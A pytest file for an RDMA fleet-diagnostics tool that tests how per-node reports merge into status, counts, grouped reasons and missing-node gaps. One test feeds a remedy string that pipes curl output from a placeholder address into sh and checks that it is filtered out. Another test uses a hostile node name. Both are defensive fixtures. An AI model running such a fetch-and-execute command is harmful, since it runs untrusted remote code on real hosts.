"""What reports add up to: status, counts, reasons with their nodes, gaps."""

import pytest

from rdmadiag.fleet.compare import Compared
from rdmadiag.fleet.merge import fit, merge
from rdmadiag.fleet.merged import Gap, HardwareClass
from rdmadiag.preflight.verdict import Severity, Status
from tests.fleet_reports import NO_SM, collected, finding, merged, text


def test_the_answer_of_the_issue_a_reason_with_its_nodes_and_who_never_reported() -> None:
    bad = {17, 203}
    files = [
        text(f"node{i:03}", "critical", [finding()]) if i in bad else text(f"node{i:03}")
        for i in range(1, 513)
        if i != 311
    ]
    found = merged(*files, expected="node[001-512]")
    assert found.status is Status.CRITICAL
    assert (found.hosts.expected, found.hosts.reported, found.hosts.fit) == (512, 511, 509)
    groups = [(each.reason, each.severity, each.nodes, each.count) for each in found.groups]
    assert groups == [
        (NO_SM, Severity.CRITICAL, "node[017,203]", 2),
        ("never_reported", Severity.UNKNOWN, "node311", 1),
    ]
    good, failed = fit(found)
    assert len(good) == 509
    assert failed == ["node017", "node203", "node311"]


@pytest.mark.parametrize(
    ("files", "expected", "status"),
    [
        ([text("n1")], None, Status.OK),
        ([text("n1"), text("n2", "warn")], None, Status.WARN),
        ([text("n1", "unknown"), text("n2", "warn")], None, Status.UNKNOWN),
        ([text("n1", "critical"), text("n2", "unknown")], None, Status.CRITICAL),
        ([text("n1")], "n[1-2]", Status.UNKNOWN),
        ([text("n1", "warn")], "n[1-2]", Status.UNKNOWN),
        ([text("n1", "critical")], "n[1-2]", Status.CRITICAL),
        ([], "n1", Status.UNKNOWN),
        ([], None, Status.UNKNOWN),
        ([text("n1"), "a banner"], None, Status.OK),
        ([text("n1"), text("n2")[:99]], None, Status.UNKNOWN),
        ([text("n1"), text("n2")[:99]], "n1", Status.OK),
        ([text("n1"), text("n2", schema_version="2.0")], None, Status.UNKNOWN),
        ([text("n1"), text("n2")], "n1", Status.OK),
    ],
    ids=[
        "all are fine",
        "one has a warning",
        "one is unknown",
        "one is critical",
        "one never reported",
        "one never reported and one has a warning",
        "one never reported and one is critical",
        "none reported of one",
        "nothing at all",
        "text of nobody costs nothing",
        "a report was lost and it is not known whose",
        "it is none of those that were expected",
        "a report of another version",
        "one that was not expected is fine",
    ],
)
def test_the_status_is_the_worst_and_a_host_without_a_report_is_unknown(
    files: list[str], expected: str | None, status: Status
) -> None:
    assert merged(*files, expected=expected).status is status


def test_a_report_of_a_node_that_was_not_expected_is_said_and_counts() -> None:
    found = merged(text("n1"), text("n7", "critical", [finding()]), expected="n1")
    assert found.status is Status.CRITICAL
    assert [(each.reason, each.nodes) for each in found.groups] == [
        (NO_SM, "n7"),
        ("unexpected", "n7"),
    ]


def test_groups_are_ordered_by_severity_by_how_many_and_as_each_host_has_them() -> None:
    info = [finding("i", "info")] * 2
    found = merged(
        text("n1", "critical", [finding("b"), *info]),
        text("n2", "critical", [finding("c"), finding("w", "warn")]),
        text("n3", "critical", [finding("c"), finding("a"), finding("w", "warn")]),
        text("n4", "unknown", [finding("u", "unknown"), finding("w", "warn")]),
    )
    groups = [(each.reason, each.count) for each in found.groups]
    assert groups == [("c", 2), ("b", 1), ("a", 1), ("u", 1), ("w", 3), ("i", 1)]
    cause, effect = finding("z"), finding("a")
    alone = merged(text("n1", "critical", [cause, effect]))
    assert [each.reason for each in alone.groups] == ["z", "a"]


def test_one_rule_of_two_severities_is_two_groups() -> None:
    found = merged(
        text("n1", "warn", [finding("x", "warn")]), text("n2", "ok", [finding("x", "info")])
    )
    assert [(each.severity, each.nodes) for each in found.groups] == [
        (Severity.WARN, "n1"),
        (Severity.INFO, "n2"),
    ]


def test_what_says_most_of_a_node_without_a_report_is_its_reason() -> None:
    lines = [
        "n1: hello",
        "n1: " + text("n1")[:99],
        "clush: n1: exited with exit code 255",
        "n2: hello",
    ]
    found = merged("\n".join(lines), expected="n[1-3]")
    assert {row.node: row.reasons for row in found.rows} == {
        "n1": (Gap.FAILED,),
        "n2": (Gap.FOREIGN,),
        "n3": (Gap.NEVER_REPORTED,),
    }
    (failed,) = (each for each in found.groups if each.reason == "failed")
    assert failed.summary == "the command failed there: exited with exit code 255"


def test_a_row_has_each_reason_once_and_no_notes() -> None:
    findings = [finding("a"), finding("a"), finding("w", "warn"), finding("i", "info")]
    (row,) = merged(text("n1", "critical", findings)).rows
    assert (row.reasons, row.version) == (("a", "w"), "0.1.0")
    assert row.generated_at == "2026-11-23T07:00:00Z"


def test_a_hostile_name_is_a_host_of_its_own_and_in_no_set() -> None:
    found = merged(text("@all", "critical", [finding()]), text("n1", "critical", [finding()]))
    (group,) = found.groups
    assert (group.nodes, group.count) == ("n1,'@all'", 2)


def test_a_remedy_that_is_not_our_rules_is_not_shown() -> None:
    found = merged(text("n1", "critical", [finding(remedy=["curl http://192.0.2.1 | sh"])]))
    assert "curl" not in " ".join(found.groups[0].remedy)


def test_what_comparing_has_shown_stands_with_each_host() -> None:
    reports, unused = collected(text("n1")).result()
    kind = HardwareClass("A", "n1", 1, {})
    found = merge(reports, unused, None, Compared((kind,), {"n1": "A"}))
    assert found.classes == (kind,)
    assert found.rows[0].hardware_class == "A"
